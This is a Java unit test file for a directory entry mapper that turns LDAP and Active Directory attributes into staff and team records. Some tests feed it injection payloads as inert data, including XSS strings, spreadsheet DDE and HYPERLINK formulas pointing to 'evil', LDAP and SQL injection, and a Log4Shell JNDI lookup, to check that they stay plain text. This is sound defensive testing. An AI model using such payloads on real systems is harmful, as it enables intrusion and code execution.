package nl.raakpunt.directory.mapping;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.InstantSource;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.stream.Stream;
import nl.raakpunt.directory.person.PersonName;
import nl.raakpunt.directory.source.BrokenEntryException;
import nl.raakpunt.directory.source.DirectoryEntry;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class EntryMapperTests {

    private static final InstantSource CLOCK = InstantSource.fixed(Instant.parse("2026-11-23T09:00:00Z"));
    private static final byte[] JPEG = {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 1, 2, 3};
    private static final byte[] PNG = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 1, 2};

    @Test
    void everyFactOfAPersonIsMapped() {
        StaffEntry staff = mapper(Map.of("village", "st -> map \"BRI=Brielle\"", "team", "ou + departmentNumber"))
                .person(Entries.of(
                        "displayName", "Sanne van der Meer",
                        "givenName", "Sanne",
                        "sn", "Meer",
                        "extensionAttribute4", "van der",
                        "title", "Adviseur bomen",
                        "ou", "Groen en bomen",
                        "ou", "Crisisteam",
                        "departmentNumber", "Beheer",
                        "mail", "s.vandermeer@example.org",
                        "telephoneNumber", "0181-47 12 34",
                        "mobile", "06 12345678",
                        "l", "Stadskantoor",
                        "roomNumber", "2.14",
                        "st", "bri",
                        "manager", "uid=m.baas,ou=medewerkers,dc=example",
                        "preferredLanguage", "nl-NL, en;q=0.8, en",
                        "extensionAttribute5", "kappen, bomen, kappen",
                        "description", "Regel één\nRegel twee",
                        "extensionAttribute1", "ma-do 08:00-16:00",
                        "extensionAttribute2", "2026-12-21/2027-01-02",
                        "extensionAttribute3", "p2 vr; p3"));
        assertThat(staff.findings()).isEmpty();
        assertThat(staff.dn()).isEqualTo(Entries.DN);
        assertThat(staff.teamNames()).containsExactly("Groen en bomen", "Crisisteam", "Beheer");
        assertThat(staff.managerDn()).isEqualTo("uid=m.baas,ou=medewerkers,dc=example");
        assertThat(String.valueOf(staff.pattern())).startsWith("ma 08:00-16:00");
        assertThat(staff.absences()).hasSize(1);
        assertThat(staff.standIns()).hasSize(2);
        assertThat(staff.person()).satisfies(person -> {
            assertThat(person.id().value()).isEqualTo(Entries.ID);
            assertThat(person.login()).isEqualTo("s.vandermeer");
            assertThat(person.name()).isEqualTo(new PersonName("Sanne", "van der", "Meer", "Sanne van der Meer"));
            assertThat(person.function()).isEqualTo("Adviseur bomen");
            assertThat(person.department()).isEqualTo("Beheer");
            assertThat(person.mail()).isEqualTo("s.vandermeer@example.org");
            assertThat(person.phone()).isEqualTo("+31181471234");
            assertThat(person.mobile()).isEqualTo("+31612345678");
            assertThat(person.location()).isEqualTo("Stadskantoor");
            assertThat(person.room()).isEqualTo("2.14");
            assertThat(person.village()).isEqualTo("Brielle");
            assertThat(person.languages()).containsExactly("nl-NL", "en");
            assertThat(person.skills()).containsExactly("bomen", "kappen");
            assertThat(person.description()).isEqualTo("Regel één\nRegel twee");
            assertThat(person.active()).isTrue();
        });
    }

    @ParameterizedTest
    @CsvSource(delimiter = ';', nullValues = "-", quoteCharacter = '"', textBlock = """
            Sanne; -;     van der Meer; -;       van der; Meer;         Sanne van der Meer
            Sanne; -;     Meer;         van der; van der; Meer;         Sanne van der Meer
            Sanne; -;     van der Meer; van der; van der; Meer;         Sanne van der Meer
            Sanne; -;     Meer, van der; -;      van der; Meer;         Sanne van der Meer
            -;     S.;    Meer van der; -;       van der; Meer;         S. van der Meer
            Sanne; S.;    d'Hondt;      -;       d';      Hondt;        Sanne d'Hondt
            Karim; -;     El Amrani;    -;       El;      Amrani;       Karim El Amrani
            -;     -;     Vandenberg;   -;       "";      Vandenberg;   Vandenberg
            -;     -;     -;            -;       "";      "";           s.vandermeer
            """)
    void aNameIsPutTogetherFromItsParts(
            @Nullable String given,
            @Nullable String initials,
            @Nullable String surname,
            @Nullable String prefix,
            String expectedPrefix,
            String expectedFamily,
            String display) {
        Map<String, @Nullable String> parts = new HashMap<>();
        parts.put("givenName", given);
        parts.put("initials", initials);
        parts.put("sn", surname);
        parts.put("extensionAttribute4", prefix);
        String[] attributes = parts.entrySet().stream()
                .filter(part -> part.getValue() != null)
                .flatMap(part -> Stream.of(part.getKey(), part.getValue()))
                .toArray(String[]::new);
        PersonName name =
                mapper(Map.of()).person(Entries.of(attributes)).person().name();
        assertThat(name.prefix()).isEqualTo(expectedPrefix);
        assertThat(name.family()).isEqualTo(expectedFamily);
        assertThat(name.display()).isEqualTo(display);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '~', nullValues = "-", textBlock = """
            +31 (0)181-47 12 34              ~ +31181471234 ~ -
            +31 (0)181-47 12 34 tst. 12      ~ +31181471234 ~ has an extension, which is left out
            (0181) 47 12 34                  ~ +31181471234 ~ -
            0181/471234                      ~ +31181471234 ~ -
            0031181471234                    ~ +31181471234 ~ -
            06-12345678 / 0181-471234        ~ +31612345678 ~ -
            0181-471234 toestel 12           ~ +31181471234 ~ has an extension, which is left out
            +49 30 123456                    ~ +4930123456  ~ -
            1234                             ~ 1234         ~ -
            12 34                            ~ 1234         ~ -
            14 0181                          ~ 140181       ~ -
            zie intranet                     ~ -            ~ holds no phone number
            n.v.t.                           ~ -            ~ holds no phone number
            06-BELMIJNU                      ~ -            ~ holds no phone number
            +                                ~ -            ~ holds no phone number
            0                                ~ -            ~ holds no phone number
            99999999999999999999999999999999 ~ -            ~ holds no phone number
            =cmd|'/C calc'!A0                ~ -            ~ holds no phone number
            """)
    void phoneNumbersAreWrittenInOneWay(String written, @Nullable String number, @Nullable String finding) {
        StaffEntry staff = mapper(Map.of()).person(Entries.of("telephoneNumber", written));
        assertThat(staff.person().phone()).isEqualTo(number);
        assertThat(staff.findings())
                .isEqualTo(finding == null ? List.of() : List.of("phone: telephoneNumber " + finding));
    }

    @Test
    void theFirstCandidateThatIsANumberIsTaken() {
        EntryMapper mapper = mapper(Map.of("phone", "telephoneNumber | ipPhone | otherTelephone"));
        assertThat(mapper.person(Entries.of("telephoneNumber", "n.v.t.", "ipPhone", "1234"))
                        .person()
                        .phone())
                .isEqualTo("1234");
        assertThat(mapper.person(Entries.of("ipPhone", "1234", "otherTelephone", "0181-471234"))
                        .person()
                        .phone())
                .isEqualTo("+31181471234");
    }

    @Test
    void phoneNumbersAreThoseOfTheCountry() {
        EntryMapper belgian = new EntryMapper(Mapping.of(Preset.INET_ORG_PERSON, Map.of()), "BE", CLOCK);
        assertThat(belgian.person(Entries.of("telephoneNumber", "02 555 12 12"))
                        .person()
                        .phone())
                .isEqualTo("+3225551212");
    }

    @Test
    void aPictureIsRecognisedByItsFirstBytes() {
        EntryMapper mapper = mapper(Map.of("photo", "thumbnailPhoto | jpegPhoto"));
        StaffEntry jpeg = mapper.person(Entries.withPhoto("jpegPhoto", JPEG));
        Photo photo = Objects.requireNonNull(jpeg.photo());
        assertThat(photo.type()).isEqualTo("image/jpeg");
        assertThat(photo.image()).isEqualTo(JPEG);
        assertThat(jpeg.person().photo()).isEqualTo(photo.hash()).hasSize(64);
        assertThat(mapper.person(Entries.withPhoto("thumbnailPhoto", PNG)).photo())
                .isNotNull()
                .extracting(Photo::type)
                .isEqualTo("image/png");
    }

    @Test
    void whatIsNoPictureOrTooLargeIsLeftOut() {
        StaffEntry svg = mapper(Map.of())
                .person(Entries.withPhoto("jpegPhoto", "<svg onload=alert(1)>".getBytes(StandardCharsets.UTF_8)));
        assertThat(svg.photo()).isNull();
        assertThat(svg.person().photo()).isNull();
        assertThat(svg.findings()).containsExactly("photo: jpegPhoto is not a JPEG or PNG picture");
        byte[] limit = Arrays.copyOf(JPEG, 200 * 1024);
        assertThat(mapper(Map.of())
                        .person(Entries.withPhoto("jpegPhoto", limit))
                        .photo())
                .isNotNull();
        StaffEntry large =
                mapper(Map.of()).person(Entries.withPhoto("jpegPhoto", Arrays.copyOf(limit, limit.length + 1)));
        assertThat(large.photo()).isNull();
        assertThat(large.findings()).containsExactly("photo: jpegPhoto is larger than 200 kB");
        assertThat(mapper(Map.of())
                        .person(Entries.withPhoto("jpegPhoto", new byte[0]))
                        .photo())
                .isNull();
    }

    @ParameterizedTest
    @CsvSource(nullValues = "-", textBlock = """
            512,    -,                   true
            514,    -,                   false
            66050,  -,                   false
            66048,  0,                   true
            512,    9223372036854775807, true
            512,    132537600000000000,  false
            512,    136321920000000000,  true
            -,      -,                   true
            """)
    void anAccountOfActiveDirectoryIsActiveUntilItIsDisabledOrEnds(
            @Nullable String control, @Nullable String expires, boolean active) {
        EntryMapper mapper = new EntryMapper(Mapping.of(Preset.ACTIVE_DIRECTORY, Map.of()), "NL", CLOCK);
        Map<String, List<String>> values = new HashMap<>(Map.of("samaccountname", List.of("sanne")));
        if (control != null) {
            values.put("useraccountcontrol", List.of(control));
        }
        if (expires != null) {
            values.put("accountexpires", List.of(expires));
        }
        StaffEntry staff = mapper.person(new DirectoryEntry(Entries.ID, Entries.DN, values, Map.of()));
        assertThat(staff.person().active()).isEqualTo(active);
    }

    @ParameterizedTest
    @CsvSource({"Uit dienst,false", "met pensioen,false", "in dienst,true"})
    void anyAttributeSaysWhoIsActive(String status, boolean active) {
        EntryMapper mapper = mapper(Map.of("active", "employeeStatus -> is-not \"uit dienst, met pensioen\""));
        assertThat(mapper.person(Entries.of("employeeStatus", status)).person().active())
                .isEqualTo(active);
        assertThat(mapper.person(Entries.of()).person().active()).isTrue();
    }

    @Test
    void anUnclearStateIsNotALeaver() {
        StaffEntry staff = mapper(Map.of("active", "employeeStatus", "account-control", "uac"))
                .person(Entries.of("employeeStatus", "misschien", "uac", "x"));
        assertThat(staff.person().active()).isTrue();
        assertThat(staff.findings()).hasSize(2).allMatch(finding -> finding.contains("is not"));
    }

    @Test
    void aTeamHasItsLeadAndMembers() {
        TeamEntry team = mapper(Map.of())
                .team(Entries.of(
                        "cn", "Groen en bomen",
                        "owner", "uid=a",
                        "businessCategory", "Beheer",
                        "member", "uid=a",
                        "member", "uid=b",
                        "uniqueMember", "uid=c"));
        assertThat(team)
                .isEqualTo(new TeamEntry(
                        Entries.ID,
                        Entries.DN,
                        "Groen en bomen",
                        "Beheer",
                        "uid=a",
                        List.of("uid=a", "uid=b", "uid=c")));
    }

    @ParameterizedTest
    @ValueSource(strings = {"---", "\u200b", "王"})
    void aTeamNeedsANameThatMakesAKey(String name) {
        assertThatThrownBy(() -> mapper(Map.of()).team(Entries.of("cn", name)))
                .isInstanceOf(BrokenEntryException.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "\"><img src=x onerror=alert(1)>",
                "=HYPERLINK(\"http://evil\",\"klik\")",
                "+31;@SUM(1+1)*cmd|' /C calc'!A0",
                "*)(uid=*",
                "\\00\\2a",
                "Robert'); drop table person;--",
                "${jndi:ldap://evil/x}",
                "#{T(java.lang.Runtime)}",
                "{{7*7}}",
                "王小明 😀 مریم نوری‌زاده",
                "a,b+c\\d;e<f>g=h"
            })
    void payloadsStayText(String text) {
        StaffEntry staff = mapper(Map.of())
                .person(Entries.of(
                        "displayName", text, "title", text, "description", text, "roomNumber", text, "manager", text));
        assertThat(staff.findings()).isEmpty();
        assertThat(staff.person().name().display()).isEqualTo(text);
        assertThat(staff.person().function()).isEqualTo(text);
        assertThat(staff.person().description()).isEqualTo(text);
        assertThat(staff.person().room()).isEqualTo(text);
        assertThat(staff.managerDn()).isEqualTo(text);
    }

    @Test
    void whatNobodySeesIsTakenOutOfNames() {
        StaffEntry staff = mapper(Map.of())
                .person(Entries.of(
                        "displayName", "\u202eenna\u202c S\u200ban\ufeffne",
                        "title", "Adviseur\r\nbomen\u0007",
                        "roomNumber", "\u200b\u2060"));
        assertThat(staff.person().name().display()).isEqualTo("enna Sanne");
        assertThat(staff.person().function()).isEqualTo("Adviseur  bomen");
        assertThat(staff.person().room()).isNull();
    }

    @ParameterizedTest
    @CsvSource({
        "description, 'a\0b', contains a NUL character",
        "description, 'a\uFFFDb', is not valid UTF-8",
        "description, 'a\uD800b', is not valid Unicode",
        "mail, geen mailadres, is not a mail address",
        "ou, ---, has no letter or digit"
    })
    void oneUnusableFactIsLeftOutAndTheRestGoesOn(String attribute, String value, String finding) {
        StaffEntry staff = mapper(Map.of()).person(Entries.of(attribute, value, "title", "Adviseur"));
        assertThat(staff.person().function()).isEqualTo("Adviseur");
        assertThat(staff.person().description()).isNull();
        assertThat(staff.person().mail()).isNull();
        assertThat(staff.teamNames()).isEmpty();
        assertThat(staff.findings()).singleElement().asString().endsWith(attribute + " " + finding);
    }

    @Test
    void hugeValuesAreLeftOutWhereTheyDoNotFit() {
        String huge = "x".repeat(10_000);
        StaffEntry staff = mapper(Map.of())
                .person(Entries.of(
                        "displayName", huge, "ou", huge, "description", huge, "extensionAttribute5", huge + "y"));
        assertThat(staff.person().name().display()).isEqualTo("s.vandermeer");
        assertThat(staff.person().description()).isEqualTo(huge);
        assertThat(staff.findings())
                .containsExactlyInAnyOrder(
                        "display-name: displayName is longer than 500 characters",
                        "team: ou is longer than 500 characters",
                        "skills: extensionAttribute5 is longer than 10000 characters");
    }

    @Test
    void withoutUsableSignInNameOrWorkingTimeTheEntryIsBroken() {
        EntryMapper mapper = mapper(Map.of());
        DirectoryEntry nameless = new DirectoryEntry(Entries.ID, Entries.DN, Map.of(), Map.of());
        assertBroken(mapper, nameless, "has no uid");
        assertThat(mapper.login(nameless)).isNull();
        DirectoryEntry odd = new DirectoryEntry(Entries.ID, Entries.DN, Map.of("uid", List.of("a\0b")), Map.of());
        assertBroken(mapper, odd, "uid contains a NUL character");
        assertThat(mapper.login(odd)).isNull();
        DirectoryEntry malformed = Entries.of("extensionAttribute1", "ma 25:00-26:00");
        assertBroken(mapper, malformed, "extensionAttribute1: ");
        assertThat(mapper.login(malformed)).isEqualTo("s.vandermeer");
        assertBroken(mapper, Entries.of("extensionAttribute2", "tot nader order"), "extensionAttribute2: ");
    }

    @Test
    void aTransformThatCannotWorkLeavesOutItsFactOnly() {
        StaffEntry staff =
                mapper(Map.of("team", "ou -> dn-part ou")).person(Entries.of("ou", "geen naam", "title", "Adviseur"));
        assertThat(staff.teamNames()).isEmpty();
        assertThat(staff.person().function()).isEqualTo("Adviseur");
        assertThat(staff.findings()).containsExactly("team: ou -> dn-part ou is not a distinguished name");
    }

    private static void assertBroken(EntryMapper mapper, DirectoryEntry entry, String reason) {
        assertThatThrownBy(() -> mapper.person(entry))
                .isInstanceOf(BrokenEntryException.class)
                .hasMessageStartingWith(reason);
    }

    private static EntryMapper mapper(Map<String, String> configured) {
        return new EntryMapper(Mapping.of(Preset.INET_ORG_PERSON, configured), "NL", CLOCK);
    }
}
